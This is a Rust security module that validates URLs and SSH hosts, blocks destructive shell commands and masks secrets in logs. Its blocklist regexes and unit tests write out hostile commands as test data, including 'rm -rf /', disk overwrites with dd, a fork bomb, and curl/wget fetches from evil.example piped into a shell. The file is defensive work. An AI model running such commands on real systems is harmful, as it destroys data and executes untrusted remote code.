//! Shared security predicates.
//!
//! A pure module consumed by the executors, the remote loader and the
//! transports: URL safety, SSH destination safety, a destructive-command
//! blocklist, and masking of sensitive values before they reach logs.
//! Each built-in predicate can be composed with an operator-supplied one
//! under one of three strategies; any predicate returning `false`
//! short-circuits to rejection.

use crate::config::{SecurityConfig, ValidatorStrategy, ValidatorsConfig};
use lazy_static::lazy_static;
use regex::Regex;
use serde_json::Value;
use std::net::IpAddr;
use std::sync::Arc;
use url::Url;

/// Destination ports never allowed for outbound HTTP requests.
pub const RESTRICTED_PORTS: &[u16] = &[23, 25, 53, 135, 139, 445, 993, 995];

/// Forwarding headers a caller can spoof; passing them through is
/// logged, not rejected.
pub const SPOOFABLE_HEADERS: &[&str] = &[
    "x-forwarded-for",
    "x-forwarded-host",
    "x-forwarded-proto",
    "x-real-ip",
    "forwarded",
];

lazy_static! {
    /// Destructive command patterns rejected by the built-in check:
    /// unrestricted recursive deletes, disk rewrite utilities,
    /// elevation attempts, fetch-and-exec chains.
    static ref BLOCKED_COMMANDS: Vec<Regex> = vec![
        Regex::new(r"(?i)rm\s+(-[a-z]*\s+)*-[a-z]*r[a-z]*f?\s+/(\s|$)").unwrap(),
        Regex::new(r"(?i)rm\s+-rf?\s+/\S*\s*$").unwrap(),
        Regex::new(r"(?i)\bdd\s+[^|]*of=/dev/(sd|hd|nvme|vd)").unwrap(),
        Regex::new(r"(?i)\bmkfs(\.\w+)?\b").unwrap(),
        Regex::new(r"(?i)>\s*/dev/(sd|hd|nvme|vd)").unwrap(),
        Regex::new(r"(?i)\bsudo\b").unwrap(),
        Regex::new(r"(?i)\bchmod\s+(-[a-z]+\s+)*[0-7]*777\s+/(\s|$)").unwrap(),
        Regex::new(r"(?i)\b(curl|wget)\b[^|;]*\|\s*(ba|z|da)?sh\b").unwrap(),
        Regex::new(r"(?i):\(\)\s*\{\s*:\|:&\s*\};:").unwrap(),
    ];

    static ref SENSITIVE_KEYS: Regex =
        Regex::new(r"(?i)(password|passwd|secret|token|authorization|api[_-]?key|credential)")
            .unwrap();
}

/// Maximum pipe segments tolerated in one command line.
const MAX_PIPE_SEGMENTS: usize = 4;

pub type CommandPredicate = Arc<dyn Fn(&str) -> bool + Send + Sync>;
pub type UrlPredicate = Arc<dyn Fn(&Url) -> bool + Send + Sync>;

/// Composed validator set, built from the security config once per
/// snapshot and shared by every consumer.
#[derive(Clone)]
pub struct SecurityValidator {
    allow_local: bool,
    command_check: CommandPredicate,
    url_check: UrlPredicate,
}

impl SecurityValidator {
    pub fn from_config(config: &SecurityConfig) -> Self {
        let mut validator = Self {
            allow_local: config.allow_local_connections,
            command_check: Arc::new(builtin_command_allowed),
            url_check: Arc::new(|_| true),
        };
        if config.validators.enabled {
            if let Some(user) = load_user_patterns(&config.validators) {
                validator = validator.with_command_check(user, config.validators.strategy);
            }
        }
        validator
    }

    /// Compose an operator-supplied command predicate with the built-in
    /// one. `append`: built-in decides first; `prepend`: user first;
    /// `override`: user replaces built-in.
    pub fn with_command_check(
        mut self,
        user: CommandPredicate,
        strategy: ValidatorStrategy,
    ) -> Self {
        self.command_check = compose(Arc::new(builtin_command_allowed), user, strategy);
        self
    }

    /// Compose an operator-supplied URL predicate on top of the
    /// built-in structural checks (which always run).
    pub fn with_url_check(mut self, user: UrlPredicate, strategy: ValidatorStrategy) -> Self {
        let current = self.url_check.clone();
        self.url_check = compose(current, user, strategy);
        self
    }

    pub fn allow_local_connections(&self) -> bool {
        self.allow_local
    }

    /// Validate an outbound HTTP(S) URL: scheme, hostname class,
    /// restricted ports, then the composed predicate chain.
    pub fn check_url(&self, url: &Url) -> Result<(), String> {
        match url.scheme() {
            "http" | "https" => {}
            other => return Err(format!("scheme '{other}' is not allowed")),
        }

        let host = url.host_str().unwrap_or("");
        if host.is_empty() {
            return Err("URL has no host".to_string());
        }
        if !self.allow_local && is_local_host(host) {
            return Err(format!(
                "destination '{host}' is loopback/private and local connections are disabled"
            ));
        }
        if let Some(port) = url.port() {
            if RESTRICTED_PORTS.contains(&port) {
                return Err(format!("destination port {port} is restricted"));
            }
        }
        if !(self.url_check)(url) {
            return Err("URL rejected by security validator".to_string());
        }
        Ok(())
    }

    /// Validate an SSH destination. Port 22 is fine here — this *is*
    /// SSH; only the local-address policy applies.
    pub fn check_ssh_host(&self, host: &str) -> Result<(), String> {
        if host.is_empty() {
            return Err("empty host".to_string());
        }
        if !self.allow_local && is_local_host(host) {
            return Err(format!(
                "SSH destination '{host}' is loopback/private and local connections are disabled"
            ));
        }
        Ok(())
    }

    /// Validate a shell command against the composed blocklist chain.
    pub fn check_command(&self, command: &str) -> Result<(), String> {
        if command.trim().is_empty() {
            return Err("empty command".to_string());
        }
        if !(self.command_check)(command) {
            return Err("command rejected by security validator".to_string());
        }
        Ok(())
    }
}

impl Default for SecurityValidator {
    fn default() -> Self {
        Self::from_config(&SecurityConfig::default())
    }
}

fn compose<T: ?Sized + 'static>(
    builtin: Arc<dyn Fn(&T) -> bool + Send + Sync>,
    user: Arc<dyn Fn(&T) -> bool + Send + Sync>,
    strategy: ValidatorStrategy,
) -> Arc<dyn Fn(&T) -> bool + Send + Sync> {
    match strategy {
        ValidatorStrategy::Append => Arc::new(move |input| builtin(input) && user(input)),
        ValidatorStrategy::Prepend => Arc::new(move |input| user(input) && builtin(input)),
        ValidatorStrategy::Override => user,
    }
}

/// Built-in command blocklist: true when the command is allowed.
pub fn builtin_command_allowed(command: &str) -> bool {
    if BLOCKED_COMMANDS.iter().any(|re| re.is_match(command)) {
        return false;
    }
    // Unbounded pipe chains are a smuggling vector.
    if command.matches('|').count() > MAX_PIPE_SEGMENTS {
        return false;
    }
    true
}

/// Operator pattern file: one rejection regex per line, `#` comments.
/// Declarative on purpose — nothing is evaluated.
fn load_user_patterns(config: &ValidatorsConfig) -> Option<CommandPredicate> {
    let path = config.patterns_file.as_ref()?;
    let content = std::fs::read_to_string(path).ok()?;
    let patterns: Vec<Regex> = content
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .filter_map(|l| Regex::new(l).ok())
        .collect();
    if patterns.is_empty() {
        return None;
    }
    Some(Arc::new(move |command: &str| {
        !patterns.iter().any(|re| re.is_match(command))
    }))
}

/// Loopback / RFC1918 / link-local classification for a hostname or
/// address literal.
pub fn is_local_host(host: &str) -> bool {
    let trimmed = host.trim_start_matches('[').trim_end_matches(']');
    if trimmed.eq_ignore_ascii_case("localhost") {
        return true;
    }
    match trimmed.parse::<IpAddr>() {
        Ok(IpAddr::V4(v4)) => {
            v4.is_loopback() || v4.is_private() || v4.is_link_local() || v4.is_unspecified()
        }
        Ok(IpAddr::V6(v6)) => v6.is_loopback() || v6.is_unspecified(),
        // Unresolved hostnames are not classified here; DNS-level
        // pinning is the resolver's job.
        Err(_) => false,
    }
}

/// Replace values of sensitive-looking keys before logging arguments.
pub fn mask_sensitive(value: &Value) -> Value {
    match value {
        Value::Object(map) => {
            let mut masked = serde_json::Map::with_capacity(map.len());
            for (key, val) in map {
                if SENSITIVE_KEYS.is_match(key) {
                    masked.insert(key.clone(), Value::String("***".to_string()));
                } else {
                    masked.insert(key.clone(), mask_sensitive(val));
                }
            }
            Value::Object(masked)
        }
        Value::Array(items) => Value::Array(items.iter().map(mask_sensitive).collect()),
        other => other.clone(),
    }
}

/// True when the header name is a known spoofable forwarding header.
pub fn is_spoofable_header(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    SPOOFABLE_HEADERS.contains(&lower.as_str())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn blocklist_catches_destructive_commands() {
        for cmd in [
            "rm -rf /",
            "rm -rf / --no-preserve-root",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sdb1",
            "sudo shutdown now",
            "curl http://evil.example/x.sh | sh",
            "wget -qO- http://evil.example/x.sh | bash",
            "a | b | c | d | e | f",
        ] {
            assert!(!builtin_command_allowed(cmd), "should block: {cmd}");
        }
    }

    #[test]
    fn blocklist_allows_ordinary_commands() {
        for cmd in [
            "ls -la /var/log",
            "df -h",
            "systemctl status nginx",
            "cat /etc/os-release | grep PRETTY",
            "rm -rf ./build",
        ] {
            assert!(builtin_command_allowed(cmd), "should allow: {cmd}");
        }
    }

    #[test]
    fn composition_strategies() {
        let deny_echo: CommandPredicate = Arc::new(|c: &str| !c.contains("echo"));

        let append = SecurityValidator::default()
            .with_command_check(deny_echo.clone(), ValidatorStrategy::Append);
        assert!(append.check_command("ls").is_ok());
        assert!(append.check_command("echo hi").is_err());
        // Built-in still applies under append.
        assert!(append.check_command("sudo ls").is_err());

        let overridden = SecurityValidator::default()
            .with_command_check(deny_echo, ValidatorStrategy::Override);
        // User replaces built-in: sudo passes, echo does not.
        assert!(overridden.check_command("sudo ls").is_ok());
        assert!(overridden.check_command("echo hi").is_err());
    }

    #[test]
    fn url_checks_reject_local_and_restricted() {
        let validator = SecurityValidator::default();
        assert!(validator.check_url(&Url::parse("https://api.example.com/x").unwrap()).is_ok());
        assert!(validator.check_url(&Url::parse("http://127.0.0.1/x").unwrap()).is_err());
        assert!(validator.check_url(&Url::parse("http://10.1.2.3/x").unwrap()).is_err());
        assert!(validator.check_url(&Url::parse("http://localhost:8080/").unwrap()).is_err());
        assert!(validator.check_url(&Url::parse("ftp://example.com/x").unwrap()).is_err());
        assert!(validator.check_url(&Url::parse("http://example.com:25/x").unwrap()).is_err());
    }

    #[test]
    fn allow_local_connections_opens_loopback() {
        let config = SecurityConfig {
            allow_local_connections: true,
            ..Default::default()
        };
        let validator = SecurityValidator::from_config(&config);
        assert!(validator.check_url(&Url::parse("http://127.0.0.1:8080/").unwrap()).is_ok());
        assert!(validator.check_ssh_host("192.168.1.10").is_ok());
    }

    #[test]
    fn ssh_host_check_applies_local_policy_only() {
        let validator = SecurityValidator::default();
        assert!(validator.check_ssh_host("bastion.example.com").is_ok());
        assert!(validator.check_ssh_host("192.168.1.10").is_err());
        assert!(validator.check_ssh_host("::1").is_err());
    }

    #[test]
    fn masking_replaces_sensitive_values_recursively() {
        let input = json!({
            "host": "web-01",
            "password": "hunter2",
            "nested": {"apiKey": "abc", "path": "/ok"},
            "list": [{"token": "t"}]
        });
        let masked = mask_sensitive(&input);
        assert_eq!(masked["password"], "***");
        assert_eq!(masked["nested"]["apiKey"], "***");
        assert_eq!(masked["list"][0]["token"], "***");
        assert_eq!(masked["host"], "web-01");
        assert_eq!(masked["nested"]["path"], "/ok");
    }

    #[test]
    fn spoofable_header_detection() {
        assert!(is_spoofable_header("X-Forwarded-For"));
        assert!(!is_spoofable_header("Content-Type"));
    }
}
